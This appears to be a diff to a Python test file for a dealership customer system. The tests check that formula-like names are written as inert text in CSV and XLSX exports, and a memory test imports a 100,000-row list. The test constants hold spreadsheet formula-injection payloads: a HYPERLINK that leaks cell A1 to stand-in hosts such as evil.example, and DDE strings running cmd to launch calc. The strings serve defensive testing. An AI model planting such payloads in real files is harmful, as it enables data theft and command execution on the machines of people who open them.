@@ -32,6 +32,8 @@ from tests.tables import HEADERS, write_csv
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
 HOSTILE = [LEAK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+SHORT_LEAK = '=HYPERLINK("http://e.vil/?"&A1,"详情")'  # fits a name (at most 50 characters)
+NAMES = [SHORT_LEAK, *HOSTILE[1:]]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -96,8 +98,8 @@ def _seed_hostile_customers(app: Container, channel: str) -> None:
     with app.uow() as uow:
         store = uow.stores.add("惠州江铃4S店", "Asia/Shanghai", now)
         uow.staff.add(store, "周芳", Role.CS_SPECIALIST, None, True, now)
-        owner = uow.staff.add(store, HOSTILE[0], Role.SALES_CONSULTANT, None, True, now)
-        for index, name in enumerate(HOSTILE):
+        owner = uow.staff.add(store, SHORT_LEAK, Role.SALES_CONSULTANT, None, True, now)
+        for index, name in enumerate(NAMES):
             customer = Customer(
                 store_id=store,
                 name=name,
@@ -168,7 +170,7 @@ def test_formula_names_in_a_customer_list_come_back_inert_in_the_rejects_file(
 
 
 def test_a_rejects_file_sent_back_after_fixing_imports_the_names_as_typed(app: Container, tmp_path: Path) -> None:
-    short = '=HYPERLINK("http://e.vil/?"&A1,"详情")'  # a name may hold at most 50 characters
+    short = SHORT_LEAK
     rows = [[short, "先生", "12345", "惠城区"], ["王建国", "先生", "+86-138-0013-8000", "=惠城区"]]
     first = import_customers(
         app.uow, write_csv(tmp_path / "a.csv", rows, headers=["姓名", "称呼", "手机", "区域"]),
@@ -196,11 +198,11 @@ def test_the_sms_link_export_writes_formula_names_as_text(hostile_app: Container
         count = export_links(uow, hostile_app.link_issuer("huifang_bot"), target, hostile_app.clock)
         uow.commit()
 
-    assert count == len(HOSTILE)
+    assert count == len(NAMES)
     if suffix == ".csv":
-        assert "'" + LEAK in assert_csv_inert(target)
+        assert "'" + SHORT_LEAK in assert_csv_inert(target)
     else:
-        assert LEAK in assert_xlsx_inert(target)
+        assert SHORT_LEAK in assert_xlsx_inert(target)
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@@ -215,11 +217,11 @@ def test_the_call_sheet_writes_formula_names_as_text(hostile_app: Container, tmp
             uow, hostile_app.survey_kit(), hostile_app.phone_settings(), store_id, target, hostile_app.clock
         )
 
-    assert count == len(HOSTILE)
+    assert count == len(NAMES)
     if suffix == ".csv":
-        assert "'" + LEAK in assert_csv_inert(target)
+        assert "'" + SHORT_LEAK in assert_csv_inert(target)
     else:
-        assert LEAK in assert_xlsx_inert(target)
+        assert SHORT_LEAK in assert_xlsx_inert(target)
 
 
 def test_staff_rejects_keep_formula_names_inert(app: Container, tmp_path: Path) -> None:
@@ -239,3 +241,55 @@ def test_headers_in_a_hostile_file_stay_inert_in_its_rejects_file(app: Container
 
     assert summary.rejected == 1
     assert_csv_inert(Path(summary.rejects_path or ""))
+
+
+def _customer_list(path: Path, rows: int) -> Path:
+    """张三 on the first row, 李四 with the same number written differently on the last, unique rows between."""
+    with path.open("w", encoding="utf-8-sig", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["姓名", "手机", "区域"])
+        writer.writerow(["张三", "138 0013 8000", "惠城区"])
+        writer.writerows([f"客户{i}", f"139{i:08d}", "惠城区"] for i in range(rows - 2))
+        writer.writerow(["李四", "+86-138-0013-8000", "惠城区"])
+    return path
+
+
+def _import_peak_kib(database_url: str, path: Path) -> tuple[subprocess.CompletedProcess[str], int]:
+    """Run `huifang import customers` as its own process; its output and its peak resident memory (KiB)."""
+    wrapper = (
+        "import resource, subprocess, sys\n"
+        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
+        "sys.stdout.write(done.stdout)\n"
+        "sys.stderr.write(done.stderr)\n"
+        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
+        "sys.exit(done.returncode)\n"
+    )
+    command = [sys.executable, "-m", "bot", "--database-url", database_url, "import", "customers", str(path)]
+    done = subprocess.run(
+        [sys.executable, "-c", wrapper, *command],
+        capture_output=True,
+        text=True,
+        cwd=path.parent,
+        timeout=120,
+        env={**os.environ, "PYTHONPATH": str(ROOT), "HUIFANG_STORE_NAME": "惠州江铃4S店"},
+    )
+    *_, peak = done.stderr.strip().splitlines()
+    return done, int(peak)
+
+
+def test_a_100k_row_list_catches_a_phone_repeated_on_its_last_row_in_flat_memory(
+    database_url: str, tmp_path: Path
+) -> None:
+    small, small_peak = _import_peak_kib(database_url, _customer_list(tmp_path / "small.csv", 10_000))
+    assert small.returncode == 0, small.stderr
+    big_path = _customer_list(tmp_path / "big.csv", 100_000)
+
+    big, big_peak = _import_peak_kib(database_url, big_path)
+
+    assert big.returncode == 0, big.stderr
+    assert "共 100000 行：新建 90000，更新 0，未变 9999，拒绝 1" in big.stdout  # the small file held the first rows
+    with (tmp_path / "big.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (reject,) = list(csv.DictReader(handle))
+    assert (reject["姓名"], reject["行号"], reject["拒绝原因"]) == ("李四", "100001", "手机：与第2行手机号重复")
+    # Ten times the rows, (nearly) the same memory: the rows seen so far are not held in memory.
+    assert big_peak - small_peak < 16 * 1024, (small_peak, big_peak)
